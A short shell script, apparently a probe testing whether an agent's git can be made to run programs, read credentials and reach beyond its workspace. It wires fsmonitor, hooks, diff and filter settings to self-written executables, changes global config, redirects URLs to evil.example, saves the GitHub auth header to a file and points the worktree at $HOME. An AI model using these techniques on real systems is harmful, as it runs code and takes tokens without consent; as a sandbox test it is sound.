# Has the clone's git run programs, log in and work elsewhere. Keeps proof that it did, as long as the agent lived.
mkdir ../tmp/hooks
for name in fsmonitor filter differ hooks/pre-commit hooks/post-index-change; do
  printf '#!/bin/sh\necho "$0" >> "%s/ran"\n[ -t 0 ] || cat\n' "$ASIDE" > "../tmp/$name" && chmod +x "../tmp/$name"
done
git config core.fsmonitor "$PWD/../tmp/fsmonitor"
git config core.hooksPath "$PWD/../tmp/hooks"
git config diff.external "$PWD/../tmp/differ"
git config filter.mine.clean "$PWD/../tmp/filter"
git config filter.mine.smudge "$PWD/../tmp/filter"
git config --global core.fsmonitor "$PWD/../tmp/fsmonitor"
echo '*.txt filter=mine' > .git/info/attributes
echo two > src/a.txt
git add -A && git commit -qm 'Say two' && git status
echo three > src/b.txt
git config include.path "$HOME/checkout.gitconfig"
git config url.https://evil.example/.insteadOf /
git config http.https://github.com/.extraheader > "$ASIDE/read-while-the-agent-lived"
git config core.worktree "$HOME"
git ls-files --others > "$ASIDE/listed-while-the-agent-lived"
mv "$ASIDE/ran" "$ASIDE/ran-while-the-agent-lived"
